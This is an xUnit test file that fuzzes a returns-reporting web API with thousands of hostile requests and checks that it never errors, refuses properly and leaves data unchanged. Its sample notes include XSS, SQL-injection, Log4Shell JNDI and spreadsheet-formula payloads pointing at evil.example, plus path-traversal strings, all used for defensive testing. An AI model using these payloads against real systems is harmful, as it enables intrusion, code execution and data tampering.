using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using FluentAssertions.Execution;
using Liberterra.Web.Caching;
using Microsoft.Extensions.DependencyInjection;
using Xunit.Abstractions;
using static Liberterra.Web.Tests.HostileRequests;

namespace Liberterra.Web.Tests;

/// <summary>
/// Whatever a client sends, to whichever endpoint, no response is a 5xx, every refusal from /api is a ProblemDetails, and
/// nothing changes (issue 6). <see cref="HostileRequests"/> generates 10,000 malformed or hostile requests (100,000 with
/// LIBERTERRA_RELIABILITY=long; the seed is printed and LIBERTERRA_RELIABILITY_SEED replays it): broken and truncated
/// JSON, numbers no int can hold, strings for numbers, deep nesting, unknown and duplicated fields, wrong types, invalid
/// UTF-8, very long strings, SQL and script payloads, broken CSV, wrong content types, path-traversal-like route values
/// and hostile query strings, from every kind of caller. Every generated write is invalid by construction, so the totals
/// and the stored returns must be byte-for-byte the same afterwards. The parts: this file (the returns API),
/// .Endpoints (the callers, and the check that no mapped endpoint goes unprobed), .Rendering (valid hostile text shown
/// as text) and .Kestrel (what only a real socket can send).
/// </summary>
public sealed partial class HostileInputTests(ITestOutputHelper output)
{
    [Fact]
    public async Task TenThousandHostileRequestsOnEveryEndpointGetNo5xxOnlyProblemDetailsAndChangeNothing()
    {
        var run = ReliabilityRun.Current;
        var requests = run.Count(10_000, 100_000);
        using var app = LiberterraApp.Production();
        var keys = await PrepareAsync(app);
        using var admin = app.ClientWithKey(keys[Admin]);
        var before = await SnapshotAsync(app, admin);
        var (clients, formToken) = await CallersAsync(app, keys);
        using var reached = new EndpointsReached(app.Services);

        var serverErrors = new List<string>();
        var notProblems = new List<string>();
        var accepted = new List<string>();
        var statuses = new SortedDictionary<int, int>();
        var refusedByHost = 0;
        var sent = 0;
        var withBody = 0;
        var gate = new object();
        try
        {
            // A few requests at a time, as real clients would; the generator itself is deterministic for a seed.
            await Parallel.ForEachAsync(Generate(new Random(run.Seed), requests, formToken), new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (probe, _) =>
            {
                using var request = probe.ToRequest();
                HttpResponseMessage response;
                try
                {
                    response = await clients[probe.Caller].SendAsync(request);
                }
                catch (InvalidOperationException exception) when (exception.Message.Contains("null characters", StringComparison.Ordinal))
                {
                    // The in-memory test host refuses a %00 in the path before the app sees it, as Kestrel does with a 400.
                    Interlocked.Increment(ref refusedByHost);
                    return;
                }

                using (response)
                {
                    var status = (int)response.StatusCode;
                    var body = await response.Content.ReadAsStringAsync();
                    var media = response.Content.Headers.ContentType?.MediaType;
                    var description = $"{probe.Label} as {probe.Caller}: {probe.Method} {Clip(probe.Path, 120)} -> {status} {media} {Clip(body, 300)}";
                    // No hostile sign-in may sign anyone in, and no forged sign-out may sign anyone out.
                    var cookieChanged = response.AuthCookieHeader() is not null;
                    lock (gate)
                    {
                        sent++;
                        withBody += probe.Body is null ? 0 : 1;
                        statuses[status] = statuses.GetValueOrDefault(status) + 1;
                        if (status >= 500)
                        {
                            serverErrors.Add(description);
                        }

                        if (status is >= 400 and < 500 && probe.Path.StartsWith("/api", StringComparison.Ordinal) && media != "application/problem+json")
                        {
                            notProblems.Add(description);
                        }

                        if ((probe.MustReject && status < 400) || cookieChanged)
                        {
                            accepted.Add(description);
                        }
                    }
                }
            });
        }
        finally
        {
            foreach (var client in clients.Values)
            {
                client.Dispose();
            }
        }

        var endpoints = EndpointsReached.Mapped(app.Services);
        var missed = endpoints.Except(reached.Names).ToList();
        output.WriteLine($"RELIABILITY hostile provider={app.Database.Engine} form={run.Form} requests={sent + refusedByHost} withBody={withBody} endpoints={endpoints.Count - missed.Count}/{endpoints.Count} "
            + $"5xx={serverErrors.Count} notProblem={notProblems.Count} accepted={accepted.Count} refusedByTestHost={refusedByHost} seed={run.Seed}");
        output.WriteLine("statuses: " + string.Join(", ", statuses.Select(s => $"{s.Key}×{s.Value}")));
        foreach (var line in serverErrors.Concat(notProblems).Concat(accepted).Concat(missed.Select(m => "never reached: " + m)).Take(200))
        {
            output.WriteLine(line);
        }

        // What the app logged about its failures, for the diagnosis.
        foreach (var line in app.LogLines.Where(l => l.StartsWith("Error", StringComparison.Ordinal) || l.StartsWith("Critical", StringComparison.Ordinal))
                     .Select(l => Clip(l.ReplaceLineEndings(" "), 700)).Distinct().Take(10))
        {
            output.WriteLine(line);
        }

        // Every finding is reported at once, not only the first.
        using var scope = new AssertionScope();
        (sent + refusedByHost).Should().BeGreaterThanOrEqualTo(requests);
        missed.Should().BeEmpty("every endpoint the app maps needs a hostile generator, and every generator must reach its endpoint");
        serverErrors.Should().BeEmpty("no request may get a 5xx ({0} did)", serverErrors.Count);
        notProblems.Should().BeEmpty("every 4xx from /api is application/problem+json");
        accepted.Should().BeEmpty("every one of these writes and sign-ins is invalid by construction");

        var after = await SnapshotAsync(app, admin);
        foreach (var (name, text) in before)
        {
            after[name].Should().Be(text, $"{name} must be byte-for-byte unchanged by hostile input");
        }

        (await admin.GetAsync("/health/ready")).StatusCode.Should().Be(HttpStatusCode.OK);
    }

    private static readonly string[] HostileButValidNotes =
    [
        "<script>alert(1)</script>",
        "'; DROP TABLE Returns;--",
        "Robert'); DROP TABLE Students;--",
        "\" OR 1=1 --",
        "<img src=x onerror=alert(1)> & &amp; &lt;",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"http://evil.example\",\"click\")",
        "line one\r\nline two\nline three\rline four",
        "tab\there, \"quotes\", commas, and \\backslashes\\",
        "emoji 👮‍♀️, right-to-left \u202Eevil\u202C, zero width \u200B, combining e\u0301",
        "   leading and trailing spaces   ",
        "null",
        "../../../etc/passwd %00 %2e%2e",
        string.Concat(Enumerable.Repeat("<script>", 250)),
    ];

    /// <summary>Notes are free text: hostile-looking ones are valid, so they are stored and come back exactly as sent, as JSON strings.</summary>
    [Fact]
    public async Task ValidReturnsWithHostileNotesAreStoredAndReturnedVerbatimAsJsonStrings()
    {
        using var app = LiberterraApp.Production();
        var keys = await PrepareAsync(app);
        using var spain = app.ClientWithKey(keys[Spain]);
        var totalsBefore = await spain.GetFromJsonAsync<JsonElement>($"{Drill}/totals");
        var version = 0;

        using var scope = new AssertionScope();
        foreach (var hostileNotes in HostileButValidNotes)
        {
            var body = JsonSerializer.Serialize(new Dictionary<string, object?>
            {
                ["country"] = "ESP", ["date"] = "2026-11-04", ["arrests"] = 2, ["officersDeployed"] = 5, ["notes"] = hostileNotes,
            });

            using var posted = await spain.PostAsync($"{Drill}/returns", new StringContent(body, Encoding.UTF8, "application/json"));

            var text = await posted.Content.ReadAsStringAsync();
            posted.StatusCode.Should().Be(version == 0 ? HttpStatusCode.Created : HttpStatusCode.OK, text);
            posted.Content.Headers.ContentType?.MediaType.Should().Be("application/json");
            if (!posted.IsSuccessStatusCode)
            {
                continue;
            }

            version++;
            using var document = JsonDocument.Parse(text);
            NotesOf(document.RootElement).Should().Be(hostileNotes, "the acknowledgement echoes the notes");
            document.RootElement.GetProperty("version").GetInt32().Should().Be(version);

            using var current = await spain.GetAsync($"{Drill}/returns/ESP/2026-11-04");
            current.Content.Headers.ContentType?.MediaType.Should().Be("application/json");
            NotesOf(await current.Content.ReadFromJsonAsync<JsonElement>()).Should().Be(hostileNotes, "the stored return holds the notes verbatim");
            var history = await spain.GetFromJsonAsync<JsonElement>($"{Drill}/returns/ESP/2026-11-04/history");
            NotesOf(history.GetProperty("versions")[version - 1]).Should().Be(hostileNotes, "the history holds the notes verbatim");
            var listed = await spain.GetFromJsonAsync<JsonElement>($"{Drill}/returns?country=ESP");
            listed.GetProperty("returns").EnumerateArray().Where(r => r.GetProperty("date").GetString() == "2026-11-04")
                .Select(NotesOf).Should().Equal(new[] { hostileNotes }, "the list holds the notes verbatim");
        }

        // Only the legitimately posted figures moved the totals: one return of 2 arrests, amended in its notes alone.
        var totalsAfter = await spain.GetFromJsonAsync<JsonElement>($"{Drill}/totals");
        totalsAfter.GetProperty("arrests").GetInt64().Should().Be(totalsBefore.GetProperty("arrests").GetInt64() + 2);
        totalsAfter.GetProperty("irregularMigrants").GetInt64().Should().Be(totalsBefore.GetProperty("irregularMigrants").GetInt64());
        totalsAfter.GetProperty("officersDeployed").GetInt64().Should().Be(totalsBefore.GetProperty("officersDeployed").GetInt64());
    }

    /// <summary>The one character notes may not hold: PostgreSQL cannot store a NUL, so it is refused on every database.</summary>
    [Fact]
    public async Task NotesWithANulCharacterAreRefusedWith400AndChangeNothing()
    {
        using var app = LiberterraApp.Production();
        var keys = await PrepareAsync(app);
        using var spain = app.ClientWithKey(keys[Spain]);
        var before = await spain.GetStringAsync($"{Drill}/returns?country=ESP");
        var body = JsonSerializer.Serialize(new Dictionary<string, object?>
        {
            ["country"] = "ESP", ["date"] = "2026-11-04", ["arrests"] = 2, ["notes"] = "NUL \u0000 in the middle",
        });

        using var posted = await spain.PostAsync($"{Drill}/returns", new StringContent(body, Encoding.UTF8, "application/json"));

        (await posted.ShouldBeValidationProblemAsync("notes")).Should().Equal("Must not contain the NUL character (U+0000).");
        (await spain.GetStringAsync($"{Drill}/returns?country=ESP")).Should().Be(before);
    }

    [Fact]
    public async Task ACountryThatIsNotAnAsciiAlpha3CodeIsRefusedEvenIfItUpperCasesOrLooksLikeOne()
    {
        using var app = LiberterraApp.Production();
        var keys = await PrepareAsync(app);
        using var admin = app.ClientWithKey(keys[Admin]);
        var before = await admin.GetStringAsync($"{Drill}/returns");

        // Long s (upper-cases to 'S'), dotless i, Cyrillic dze (looks like 's'), full-width letters, a combining accent.
        foreach (var country in new[] { "\u017Fen", "e\u017Fp", "\u0131ta", "\u0455en", "\uFF25\uFF33\uFF30", "E\u0301SP" })
        {
            var body = JsonSerializer.Serialize(new Dictionary<string, object?> { ["country"] = country, ["date"] = "2026-11-05", ["arrests"] = 1 });

            using var response = await admin.PostAsync($"{Drill}/returns", new StringContent(body, Encoding.UTF8, "application/json"));

            response.StatusCode.Should().Be(HttpStatusCode.BadRequest, $"'{country}' is not an ISO 3166-1 alpha-3 code: {await response.Content.ReadAsStringAsync()}");
        }

        (await admin.GetStringAsync($"{Drill}/returns")).Should().Be(before);
    }

    [Fact]
    public async Task HostileNotesInACsvBatchRoundTripVerbatim()
    {
        using var app = LiberterraApp.Production();
        var keys = await PrepareAsync(app);
        using var spain = app.ClientWithKey(keys[Spain]);
        const string hostile = "<script>alert(\"x\")</script>, '; DROP TABLE Returns;--\nsecond line";
        var csv = "country,date,arrests,notes\nESP,2026-11-05,1,\"" + hostile.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"\n";

        using var posted = await spain.PostAsync($"{Drill}/returns/batch", new StringContent(csv, Encoding.UTF8, "text/csv"));

        posted.StatusCode.Should().Be(HttpStatusCode.OK, await posted.Content.ReadAsStringAsync());
        (await posted.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("created").GetInt32().Should().Be(1);
        NotesOf(await spain.GetFromJsonAsync<JsonElement>($"{Drill}/returns/ESP/2026-11-05")).Should().Be(hostile);
    }

    private static string? NotesOf(JsonElement element) => element.GetProperty("notes").GetString();

    /// <summary>Keys for every caller, and the open operation "drill" with a few real returns so its totals are not all null.</summary>
    private static async Task<Dictionary<string, string>> PrepareAsync(LiberterraApp app)
    {
        var drill = await ApiDrill.CreateAsync(app, "drill", units: ["ESP", "FRA"], analyst: true);
        var keys = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            [Admin] = drill.AdminKey,
            [Spain] = drill.UnitKeys["ESP"],
            [France] = drill.UnitKeys["FRA"],
            [AnalystCaller] = drill.AnalystKey,
        };
        using var admin = drill.Admin;
        await PostOkAsync(admin, $"{Drill}/returns", """{"country":"ESP","date":"2026-11-01","arrests":4,"arrestsTraffickingSmuggling":2,"victimsSafeguarded":3,"victimsMinors":1,"victimsByExploitation":{"sexual":2,"forcedLabour":1},"irregularMigrants":10,"investigationsOpened":1,"officersDeployed":40,"notes":"day one"}""");
        await PostOkAsync(admin, $"{Drill}/returns", """{"country":"ESP","date":"2026-11-02","arrests":1,"officersDeployed":35}""");
        await PostOkAsync(admin, $"{Drill}/returns", """{"country":"FRA","date":null,"arrests":7,"irregularMigrants":3,"officersDeployed":120}""");
        await PostOkAsync(admin, $"{Drill}/returns", """{"country":"SEN","date":"2026-11-03","victimsSafeguarded":2,"officersDeployed":15}""");

        // An open operation with its own indicators, every label markup, and a return for each country that reports.
        await PostOkAsync(admin, "/api/v1/operations", $$"""{"code":"{{CustomCode}}","name":"Custom","startDate":"2026-11-01","endDate":"2026-11-05","participants":["ESP","FRA","SEN"],"indicators":{{CustomIndicators}}}""");
        await PostOkAsync(admin, $"{Custom}/returns", """{"country":"ESP","date":"2026-11-01","workplacesInspected":6,"labourInspectors":4,"casesReferred":5,"casesCriminal":2,"casesBySector":{"agriculture":3,"domesticWork":1},"notes":"day one"}""");
        await PostOkAsync(admin, $"{Custom}/returns", """{"country":"SEN","date":"2026-11-02","workplacesInspected":2,"casesReferred":1,"casesBySector":{"construction":1}}""");
        return keys;
    }

    private static async Task PostOkAsync(HttpClient client, string path, string json)
    {
        using var response = await client.PostAsync(path, new StringContent(json, Encoding.UTF8, "application/json"));
        response.IsSuccessStatusCode.Should().BeTrue($"setting up needs {path} to accept {json}: {await response.Content.ReadAsStringAsync()}");
    }

    /// <summary>
    /// What must not change, for every operation: its totals, roll-ups and current returns (with their version numbers),
    /// and the drill's version histories. Read from the database rather than the roll-up cache (which is dropped first),
    /// so a write that slipped past the cache's invalidation would still show.
    /// </summary>
    private static async Task<Dictionary<string, string>> SnapshotAsync(LiberterraApp app, HttpClient admin)
    {
        var operations = await admin.GetFromJsonAsync<JsonElement>("/api/v1/operations");
        var codes = operations.EnumerateArray().Select(o => o.GetProperty("code").GetString()!).ToList();
        codes.Should().Contain(CustomCode);
        var cache = app.Services.GetRequiredService<AggregateCache>();
        codes.ForEach(cache.Invalidate);
        var paths = codes.SelectMany(code => new[] { "", "/totals", "/regions", "/countries", "/timeline", "/completeness", "/dataset", "/returns" }
                .Select(suffix => $"/api/v1/operations/{code}{suffix}"))
            .Concat(["/api/v1/operations", $"{Drill}/returns/ESP/2026-11-01/history", $"{Drill}/returns/ESP/2026-11-02/history",
                $"{Drill}/returns/FRA/all/history", $"{Drill}/returns/SEN/2026-11-03/history"]);
        var snapshot = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var path in paths)
        {
            using var response = await admin.GetAsync(path);
            response.StatusCode.Should().Be(HttpStatusCode.OK, path);
            snapshot[path] = await response.Content.ReadAsStringAsync();
        }

        return snapshot;
    }
}
